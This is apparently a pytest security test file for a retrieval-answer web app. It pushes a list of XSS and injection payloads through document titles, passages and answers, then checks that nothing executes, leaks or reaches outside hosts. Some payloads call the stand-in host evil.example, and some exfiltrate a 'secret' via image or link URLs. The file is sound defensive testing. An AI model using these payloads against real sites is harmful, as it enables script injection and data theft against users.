"""Texts that were a script if they were ever read as HTML: in titles, names, questions, passages and answers."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from rag.answers import AnswerEvent, Found, Outcome, Passage
from tests.doors.http.conftest import served
from tests.doors.http.house import House, Paper, cited, done, sentence

HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "</template><img src=x onerror=alert(1)>",
    "</textarea><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`//",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert&#40;1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example><button>x</button></form>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' autofocus onfocus='alert(1)",
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/x.png?q=secret)",
    "[ref]: https://evil.example/?q=secret\n![x][ref]",
    "<https://evil.example/?q=secret>",
    "https://evil.example/?q=secret",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% raw %}{{ 7*7 }}",
    "\x3cscript\x3ealert(1)\x3c/script\x3e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]>\"><script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |",
    "# <img src=x onerror=alert(1)>",
    "\u202e<script>alert(1)</script>",
    "a\nevent: done\ndata: {\"text\": \"<img src=x onerror=alert(1)>\"}\n\n",
)  # fmt: skip


def papers() -> list[Paper]:
    return [
        Paper(
            key=f"{number:024d}", title=text, name=f"{number}-{text}", headings=(text, f"§ {text}"),
            text=f"Vorher {text}\n{text}\nNachher", found=text,
        )
        for number, text in enumerate(HOSTILE)
    ]  # fmt: skip


def hostile(question: str, passages: Sequence[Passage]) -> Iterator[AnswerEvent]:
    yield Found(passages=tuple(passages), evidence=0.9)
    said = [
        sentence(text, cited(passage, n)) for n, (text, passage) in enumerate(zip(HOSTILE, passages, strict=True), 1)
    ]
    said += [sentence(text) for text in HOSTILE]
    yield from said
    yield done(question, passages, said, Outcome.INCOMPLETE)


@pytest.fixture
def hostile_house(tmp_path: Path) -> Iterator[House]:
    opened = House(home=tmp_path, papers=papers(), script=hostile)
    yield opened
    opened.close()


class Watched:
    """A page, the dialogs it opened and the addresses it asked for."""

    def __init__(self, page: Any) -> None:
        self.page, self.dialogs, self.asked, self.said = page, list[str](), list[str](), list[str]()
        page.set_default_timeout(30_000)
        page.on("dialog", self._dialog)
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("console", lambda message: self.said.append(message.text))
        page.on("pageerror", lambda error: self.said.append(str(error)))

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def elements(self, selector: str) -> int:
        return int(self.page.locator(selector).count())


def test_no_text_is_ever_run_or_followed(hostile_house: House, browser: Any) -> None:
    with served(hostile_house) as address:
        context = browser.new_context(locale="de")
        watched = Watched(page := context.new_page())
        page.goto(address)
        for start in range(0, len(HOSTILE), 16):
            page.fill("#question", " ".join(HOSTILE[start : start + 16]))
            page.keyboard.press("Enter")
            page.wait_for_selector(".answer:first-child[data-step=done]")
        assert page.locator(".answer >> nth=0 >> .words").all_text_contents() == [*HOSTILE, *HOSTILE]
        for number in range(len(HOSTILE)):
            page.evaluate(f"document.querySelectorAll('.cite')[{number}].click()")
            page.wait_for_function(
                "([title, key]) => document.getElementById('panel-title').textContent === title"
                " && document.querySelector('#panel mark')",
                arg=[HOSTILE[number], number],
            )
        answers = "#answers, #panel"
        for tag in (
            "a",
            "img",
            "script",
            "iframe",
            "svg:not([aria-hidden])",
            "style",
            "form",
            "object",
            "base",
            "link",
        ):
            assert watched.elements(f":is({answers}) {tag}") == 0, tag
        attributes = "[...document.querySelectorAll('*')].flatMap((e) => [...e.attributes]).map((a) => a.name)"
        assert [name for name in page.evaluate(attributes) if name.startswith("on")] == []
        assert watched.dialogs == []
        assert watched.said == []
        assert [url for url in watched.asked if not url.startswith(address + "/")] == []
        context.close()


def test_the_hook_would_see_a_script_that_ran(hostile_house: House, browser: Any) -> None:
    with served(hostile_house) as address:
        context = browser.new_context()
        watched = Watched(page := context.new_page())
        page.goto(address)
        page.evaluate("alert('seen')")
        assert watched.dialogs == ["seen"]
        context.close()


def test_the_policy_stops_a_script_even_if_a_text_were_read_as_html(hostile_house: House, browser: Any) -> None:
    playwright = pytest.importorskip("playwright.sync_api")
    with served(hostile_house) as address:
        context = browser.new_context()
        watched = Watched(page := context.new_page())
        page.goto(address)
        for attempt in (
            "document.body.innerHTML = '<img src=x onerror=alert(1)>'",
            "document.body.setAttribute('onclick', 'alert(1)')",
            "document.body.append(Object.assign(document.createElement('script'), {text: 'alert(1)'}))",
        ):
            with pytest.raises(playwright.Error, match="Trusted"):
                page.evaluate(attempt)
        page.evaluate("document.body.append(Object.assign(document.createElement('img'), {src: '//evil.example/x'}))")
        assert watched.dialogs == []
        page.wait_for_function("document.querySelector('img[src*=evil]').complete")
        assert any("Content Security Policy" in said for said in watched.said)
        context.close()


@pytest.mark.parametrize("text", HOSTILE)
def test_the_language_a_browser_asks_for_is_never_repeated(client: Any, text: str) -> None:
    clean = text.encode("ascii", "ignore").decode().replace("\n", " ")
    response = client.get("/", params={"lang": text}, headers={"accept-language": clean, "cookie": f"a={clean}"})
    assert response.status_code == 200
    assert "alert(1)" not in response.text
    assert "evil.example" not in response.text
